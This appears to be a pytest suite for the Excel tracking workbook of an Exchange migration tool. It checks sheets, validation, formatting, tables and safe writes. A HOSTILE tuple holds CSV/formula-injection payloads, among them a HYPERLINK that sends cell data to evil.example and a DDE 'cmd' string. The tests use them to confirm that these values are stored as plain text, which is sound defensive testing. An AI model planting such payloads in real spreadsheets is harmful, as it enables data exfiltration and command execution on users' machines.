"""The tracking workbook as openpyxl reads it back: structure, validation, formulas, values, XML."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from golden_files import check_golden
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from workbook_plans import sample_plan

from migrator.model import Finding, Severity
from migrator.render import workbook as wbmod
from migrator.render.workbook import (
    DnsRow,
    IdentityRow,
    RelayClientRow,
    RelayRow,
    WorkbookData,
    cell_text,
    write_workbook,
)
from migrator.tracking.model import (
    STEP_HEADERS,
    CarryOver,
    Status,
    StepTracking,
)
from migrator.tracking.read import read_tracking

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=1",
)


def _data(**kw: object) -> WorkbookData:
    plan = kw.pop("plan", None) or sample_plan()
    return WorkbookData(plan=plan, **kw)  # type: ignore[arg-type]


def _write(tmp_path: Path, data: WorkbookData | None = None, name: str = "checklist.xlsx") -> Path:
    path = tmp_path / name
    write_workbook(path, data or _data())
    return path


def _xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}


def _sheet_files(path: Path) -> dict[str, str]:
    """Sheet name -> worksheet part name."""
    ns = {
        "m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        "p": "http://schemas.openxmlformats.org/package/2006/relationships",
    }
    rid = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    xml = _xml(path)
    rels = ET.fromstring(xml["xl/_rels/workbook.xml.rels"])
    target = {
        r.get("Id"): r.get("Target", "").lstrip("/") for r in rels.findall("p:Relationship", ns)
    }
    book = ET.fromstring(xml["xl/workbook.xml"])
    return {
        str(s.get("name")): target[s.get(rid)]
        if target[s.get(rid)].startswith("xl/")
        else "xl/" + target[s.get(rid)]
        for s in book.findall("m:sheets/m:sheet", ns)
    }


# --------------------------------------------------------------------------- structure


def test_sheets_in_order(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(_write(tmp_path))
    assert wb.sheetnames == [
        "Overview",
        "Steps",
        "Relay",
        "Relay clients",
        "Identities",
        "DNS",
        "Findings",
    ]


def test_steps_sheet_has_one_row_per_step_in_run_order(tmp_path: Path) -> None:
    plan = sample_plan()
    ws = openpyxl.load_workbook(_write(tmp_path, _data(plan=plan)))["Steps"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == STEP_HEADERS
    assert [r[0] for r in rows[1:]] == [s.id for s in plan.steps]
    row = dict(zip(STEP_HEADERS, rows[4], strict=True))
    assert row == {
        "ID": "relay.create.EX16-01.apps",
        "Phase": "relay",
        "Wave": 3,
        "Title": "Do relay.create.EX16-01.apps",
        "Server/domain/object": "EX16-01",
        "Owner": "Exchange admin",
        "Runs in": "EMS on the new servers",
        "Runbook": "runbooks/20-relay/EX16-01.ps1",
        "Section": "region STEP relay.create.EX16-01.apps",
        "Prerequisites": "servers.install.EX16-01\nprepare.certificates",
        "Planned start": dt.datetime(2026, 12, 1, 9, 0),
        "Planned finish": dt.datetime(2026, 12, 1, 9, 30),
        "Critical": None,
        "Status": "Not started",
        "Done date": None,
        "Done by": None,
        "Notes": None,
        "Plan change": None,
    }
    critical = {r[0] for r in rows[1:] if r[12] == "yes"}
    assert critical == set(plan.critical_path)
    manual = dict(zip(STEP_HEADERS, rows[6], strict=True))
    assert (
        manual["ID"] == "mx.lower-ttl" and manual["Runbook"] is None and manual["Section"] is None
    )
    assert ws["K2"].number_format == "yyyy-mm-dd hh:mm"
    assert ws["D2"].alignment.wrap_text and ws["Q2"].alignment.wrap_text


def test_status_validation_list_covers_every_step_row(tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(_write(tmp_path))["Steps"]
    lists = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert len(lists) == 1
    dv = lists[0]
    assert dv.formula1 == '"Not started,In progress,Done,Blocked,Skipped"'
    assert [s.value for s in Status] == ["Not started", "In progress", "Done", "Blocked", "Skipped"]
    assert str(dv.sqref) == "N2:N9"
    assert dv.showErrorMessage
    dates = [dv for dv in ws.data_validations.dataValidation if dv.type == "date"]
    assert [str(d.sqref) for d in dates] == ["O2:O9"]


def test_frozen_header_widths_and_print_setup(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(_write(tmp_path))
    ws = wb["Steps"]
    assert ws.freeze_panes == "B2"
    assert ws.column_dimensions["A"].width == 38
    assert ws.column_dimensions["D"].width == 48
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"
    for name in ("Relay", "Relay clients", "Identities", "DNS", "Findings"):
        assert wb[name].freeze_panes == "A2"
        assert wb[name].print_title_rows == "$1:$1"


def test_conditional_formatting_done_blocked_overdue(tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(_write(tmp_path))["Steps"]
    ranges = list(ws.conditional_formatting)
    assert [str(r.sqref) for r in ranges] == ["A2:R9"]
    rules = ranges[0].rules
    assert [r.formula for r in rules] == [
        ['$N2="Done"'],
        ['$N2="Blocked"'],
        ['AND($N2<>"Done",$N2<>"Skipped",ISNUMBER($L2),$L2<TODAY())'],
    ]
    fills = [r.dxf.fill.fgColor.rgb for r in rules]
    assert fills == ["00C6EFCE", "00FFC7CE", "00FFEB9C"]


def test_today_only_inside_conditional_formatting(tmp_path: Path) -> None:
    xml = _xml(_write(tmp_path))
    for name, text in xml.items():
        for formula in re.findall(r"<f>(.*?)</f>", text):
            assert "TODAY" not in formula.upper(), (name, formula)
    steps = xml[_sheet_files(tmp_path / "checklist.xlsx")["Steps"]]
    assert "TODAY()" in steps


def test_tables_and_no_sheet_autofilter_over_them(tmp_path: Path) -> None:
    path = _write(tmp_path)
    xml = _xml(path)
    tables = {n: t for n, t in xml.items() if n.startswith("xl/tables/")}
    assert len(tables) == 6
    for name, text in tables.items():
        ref = re.search(r'<table [^>]*ref="([^"]+)"', text)[1]  # type: ignore[index]
        auto = re.search(r'<autoFilter ref="([^"]+)"', text)
        assert auto is not None and auto[1] == ref, name
    for sheet, part in _sheet_files(path).items():
        # A sheet-level filter over a table's cells makes Excel demand a repair.
        assert "<autoFilter" not in xml[part], sheet
    wb = openpyxl.load_workbook(path)
    assert wb["Steps"].tables["StepsTable"].ref == "A1:R9"
    assert wb["Steps"].auto_filter.ref is None
    headers = [c.name for c in wb["Steps"].tables["StepsTable"].tableColumns]
    assert headers == list(STEP_HEADERS)


def test_empty_sheets_still_have_a_valid_table(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(_write(tmp_path))
    table = wb["DNS"].tables["DnsTable"]
    assert table.ref == "A1:G2"  # a table needs a data row; an empty one
    assert wb["DNS"]["A2"].value is None


def test_overview_formulas_count_from_steps_sheet(tmp_path: Path) -> None:
    ws = openpyxl.load_workbook(_write(tmp_path))["Overview"]
    cells = {c.coordinate: c.value for row in ws.iter_rows() for c in row if c.value is not None}
    labels = {v: k for k, v in cells.items() if isinstance(v, str) and not v.startswith("=")}
    assert cells["B2"] == "Contoso Ltd"
    assert cells["B3"] == dt.datetime(2026, 12, 1)
    assert cells["B5"] == 5  # critical path steps
    phase_header = int(labels["Phase"][1:])
    assert [cells[f"A{phase_header + i}"] for i in range(1, 7)] == [
        "prepare",
        "servers",
        "relay",
        "mx",
        "decommission",
        "Total",
    ]
    r = phase_header + 3  # relay
    assert cells[f"B{r}"] == f"=COUNTIFS(Steps!$B:$B,$A{r})"
    assert cells[f"E{r}"] == f"=COUNTIFS(Steps!$B:$B,$A{r},Steps!$N:$N,E${phase_header})"
    assert cells[f"E{phase_header}"] == "Done"
    assert cells[f"C{r}"] == f"=B{r}-SUM(D{r}:G{r})"
    assert cells[f"H{r}"] == f"=IF(B{r}=0,0,(E{r}+G{r})/B{r})"
    owner_header = int(next(k for k, v in cells.items() if v == "Owner" and k.startswith("A"))[1:])
    assert cells[f"A{owner_header + 1}"] == "Exchange admin"
    assert cells[f"B{owner_header + 1}"] == f"=COUNTIFS(Steps!$F:$F,$A{owner_header + 1})"
    assert ws[f"H{r}"].number_format == "0%"
    # next steps: the two steps without prerequisites
    assert "prepare.schema" in cells.values() and "mx.lower-ttl" in cells.values()


def test_other_sheets(tmp_path: Path) -> None:
    data = _data(
        findings=[
            Finding(Severity.INFO, "relay.unused", "EX10-01\\Old", "no client seen"),
            Finding(
                Severity.ERROR,
                "relay.open-relay",
                "EX10-01\\Anon",
                "accepts any address",
                "set ranges",
            ),
        ],
        relay_rows=[
            RelayRow(
                "EX10-01\\Apps",
                ("EX16-01\\Apps", "EX16-02\\Apps"),
                ("10.0.0.0/24",),
                "anonymous",
                kind="anonymous relay",
                reason="AnonymousUsers with Ms-Exch-SMTP-Accept-Any-Recipient",
                evidence="12 sessions",
            )
        ],
        relay_client_rows=[
            RelayClientRow(
                "EX10-01\\Apps",
                "10.0.0.5",
                ("app1.contoso.com",),
                dt.datetime(2026, 11, 2, 9, 5),
                120,
            ),
            RelayClientRow("EX10-01\\Apps", "10.0.0.6"),
        ],
        identity_rows=[IdentityRow("a@contoso.com", "CONTOSO\\a", "a@contoso.com", "soft match")],
        dns_rows=[
            DnsRow("contoso.com", "MX", "10 ex10.contoso.com", "10 ex16.contoso.com", 3600, 300)
        ],
    )
    wb = openpyxl.load_workbook(_write(tmp_path, data))
    assert list(wb["Relay"].iter_rows(values_only=True))[1] == (
        "EX10-01\\Apps",
        "anonymous relay",
        "AnonymousUsers with Ms-Exch-SMTP-Accept-Any-Recipient",
        "EX16-01\\Apps\nEX16-02\\Apps",
        "10.0.0.0/24",
        "anonymous",
        "12 sessions",
        None,
    )
    clients = list(wb["Relay clients"].iter_rows(values_only=True))
    assert clients[1] == (
        "EX10-01\\Apps",
        "10.0.0.5",
        "app1.contoso.com",
        dt.datetime(2026, 11, 2, 9, 5),
        120,
        None,
    )
    assert clients[2] == ("EX10-01\\Apps", "10.0.0.6", None, None, None, None)
    assert list(wb["Identities"].iter_rows(values_only=True))[1][3] == "soft match"
    assert list(wb["DNS"].iter_rows(values_only=True))[1][4:6] == (3600, 300)
    findings = list(wb["Findings"].iter_rows(values_only=True))
    assert [f[0] for f in findings[1:]] == ["error", "info"]


def test_re_plan_marks_new_steps_lists_removed_and_keeps_tracking(tmp_path: Path) -> None:
    old = StepTracking(
        "prepare.schema",
        "prepare",
        "Extend schema",
        (),
        Status.DONE,
        dt.date(2026, 12, 2),
        "ann",
        "ok",
        extra=(("Ticket", "CHG-1"),),
    )
    gone = StepTracking(
        "relay.create.EX16-01.old", "relay", "Old", (), Status.BLOCKED, None, "", "=cmd note"
    )
    carry = CarryOver(
        source="old/checklist.xlsx",
        kept={"prepare.schema": old},
        removed=(gone,),
        new_step_ids=("mx.switch",),
        extra_columns=("Ticket",),
    )
    wb = openpyxl.load_workbook(_write(tmp_path, _data(carry=carry)))
    assert wb.sheetnames[2] == "Removed steps"
    steps = list(wb["Steps"].iter_rows(values_only=True))
    assert steps[0][-1] == "Ticket"
    first = dict(zip(steps[0], steps[1], strict=True))
    assert (
        first["Status"],
        first["Done date"],
        first["Done by"],
        first["Notes"],
        first["Ticket"],
    ) == (
        "Done",
        dt.datetime(2026, 12, 2),
        "ann",
        "ok",
        "CHG-1",
    )
    marks = {r[0]: r[17] for r in steps[1:]}
    assert marks["mx.switch"] == "new" and marks["prepare.schema"] is None
    removed = list(wb["Removed steps"].iter_rows(values_only=True))
    assert removed[1][:9] == (
        "relay.create.EX16-01.old",
        "relay",
        "Old",
        None,
        "Blocked",
        None,
        None,
        "=cmd note",
        "old/checklist.xlsx",
    )
    assert wb["Removed steps"]["H2"].data_type == "s"


# --------------------------------------------------------------------------- values, never formulas


def _hostile_data() -> WorkbookData:
    from workbook_plans import plan_of, step

    plan = plan_of([step("relay.x", title=HOSTILE[0], target=HOSTILE[1])], organisation=HOSTILE[0])
    carry = CarryOver(
        source="old.xlsx",
        kept={
            "relay.x": StepTracking(
                "relay.x", "relay", "", (), Status.DONE, None, HOSTILE[2], HOSTILE[3]
            )
        },
    )
    return WorkbookData(
        plan=plan,
        carry=carry,
        relay_rows=[
            RelayRow(h, (h,), (h,), h, (h,), kind=h, reason=h, evidence=h) for h in HOSTILE
        ],
        relay_client_rows=[RelayClientRow(h, h, (h,), note=h) for h in HOSTILE],
        identity_rows=[IdentityRow(h, h, h, h, h) for h in HOSTILE],
        dns_rows=[DnsRow(h, "MX", h, h, note=h) for h in HOSTILE],
        findings=[Finding(Severity.WARNING, "x.y", h, h, h) for h in HOSTILE],
    )


def test_inventory_strings_are_text_never_formulas(tmp_path: Path) -> None:
    path = _write(tmp_path, _hostile_data())
    wb = openpyxl.load_workbook(path)
    relay = wb["Relay"]
    for i, h in enumerate(HOSTILE, start=2):
        for col in "ABCDEFGH":
            cell = relay[f"{col}{i}"]
            assert cell.data_type == "s" and cell.value == cell_text(h), (
                cell.coordinate,
                cell.value,
            )
    assert wb["Overview"]["B2"].data_type == "s"
    assert wb["Overview"]["B2"].value == HOSTILE[0]
    steps = wb["Steps"]
    assert (steps["D2"].value, steps["E2"].value, steps["P2"].value, steps["Q2"].value) == HOSTILE[
        :4
    ]
    assert all(steps[c].data_type == "s" for c in ("D2", "E2", "P2", "Q2"))
    xml = _xml(path)
    formulas = [f for text in xml.values() for f in re.findall(r"<f>(.*?)</f>", text)]
    assert formulas and all(f.startswith(("COUNTIFS(", "IF(", "B", "SUM(")) for f in formulas), (
        formulas
    )
    assert not any("HYPERLINK" in f or "cmd" in f for f in formulas)
    relay_xml = xml[_sheet_files(path)["Relay"]]
    assert "<f>" not in relay_xml
    assert relay_xml.count('t="inlineStr"') == 8 + 8 * len(HOSTILE)


def test_hostile_strings_round_trip_through_the_reader(tmp_path: Path) -> None:
    tracking = read_tracking(_write(tmp_path, _hostile_data()))
    (row,) = tracking.steps
    assert (row.title, row.done_by, row.notes) == (HOSTILE[0], HOSTILE[2], HOSTILE[3])


def test_cell_text_replaces_xml_illegal_characters_and_cuts_at_excel_limit() -> None:
    assert cell_text("a\x00b\x1fc\td\ne\rf\r\ng") == "a\ufffdb\ufffdc\td\ne\nf\ng"
    long = cell_text("x" * 40000)
    assert len(long) == 32767 and long.endswith("\u2026")


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=60))
def test_any_note_survives_write_and_read(tmp_path: Path, text: str) -> None:
    from workbook_plans import plan_of, step

    plan = plan_of([step("prepare.a")])
    carry = CarryOver(
        "old.xlsx",
        kept={"prepare.a": StepTracking("prepare.a", "prepare", "", (), Status.DONE, notes=text)},
    )
    path = tmp_path / "prop.xlsx"
    write_workbook(path, WorkbookData(plan=plan, carry=carry))
    (row,) = read_tracking(path).steps
    assert row.notes == cell_text(text)


# --------------------------------------------------------------------------- files


def test_same_plan_gives_same_bytes(tmp_path: Path) -> None:
    a = _write(tmp_path, name="a.xlsx").read_bytes()
    b = _write(tmp_path, name="b.xlsx").read_bytes()
    assert a == b


def test_interrupted_write_keeps_the_old_workbook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _write(tmp_path)
    before = path.read_bytes()

    def broken_save(book: wbmod._Book, target: str, when: dt.date) -> None:
        for ws in book.wb.worksheets:
            ws.close()  # the sheets were streamed; the zip is what fails
        Path(target).write_bytes(b"PK\x03\x04 half a zip")
        raise OSError("disk full")

    monkeypatch.setattr(wbmod, "save_workbook", broken_save)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(path, _data(plan=sample_plan("Other")))
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["checklist.xlsx"]


# --------------------------------------------------------------------------- golden dump

GOLDEN = Path(__file__).parent / "golden" / "workbook" / "sample-replan.txt"


def _dump(path: Path) -> str:
    """Every cell (type and value), table, validation and formatting rule, as text."""
    wb = openpyxl.load_workbook(path)
    out: list[str] = []
    for ws in wb.worksheets:
        out.append(f"## {ws.title} (freeze {ws.freeze_panes}, print titles {ws.print_title_rows})")
        for name, ref in sorted(ws.tables.items()):
            out.append(f"table {name} {ref}")
        for dv in ws.data_validations.dataValidation:
            out.append(f"validation {dv.type} {dv.sqref} {dv.formula1}")
        for cf in ws.conditional_formatting:
            for rule in cf.rules:
                out.append(f"format {cf.sqref} {rule.formula}")
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    out.append(f"{c.coordinate}\t{c.data_type}\t{c.number_format}\t{c.value!r}")
    return "\n".join(out) + "\n"


def test_workbook_matches_golden_dump(tmp_path: Path) -> None:
    carry = CarryOver(
        source="old/checklist.xlsx",
        kept={
            "prepare.schema": StepTracking(
                "prepare.schema",
                "prepare",
                "",
                (),
                Status.DONE,
                dt.date(2026, 12, 2),
                "ann",
                "ok",
                extra=(("Ticket", "CHG-1"),),
            ),
            "servers.install.EX16-01": StepTracking(
                "servers.install.EX16-01", "servers", "", (), Status.BLOCKED, notes="media missing"
            ),
        },
        removed=(
            StepTracking("relay.old", "relay", "Old", (), Status.SKIPPED, notes="not needed"),
        ),
        new_step_ids=("mx.switch",),
        extra_columns=("Ticket",),
    )
    data = _data(
        carry=carry,
        findings=[
            Finding(Severity.WARNING, "relay.unused", "EX10-01\\Old", "no client seen", "remove it")
        ],
        relay_rows=[
            RelayRow("EX10-01\\Apps", ("EX16-01\\Apps",), ("10.0.0.0/24",), "anonymous relay")
        ],
        relay_client_rows=[
            RelayClientRow(
                "EX10-01\\Apps", "10.0.0.5", ("app1",), dt.datetime(2026, 11, 2, 9, 5), 12
            )
        ],
        identity_rows=[
            IdentityRow("a@contoso.com", "CONTOSO\\a", "", "no match", "create in cloud")
        ],
        dns_rows=[DnsRow("contoso.com", "MX", "10 ex10", "10 ex16", 3600, 300, "lower TTL first")],
    )
    text = _dump(_write(tmp_path, data))
    check_golden(GOLDEN, text)
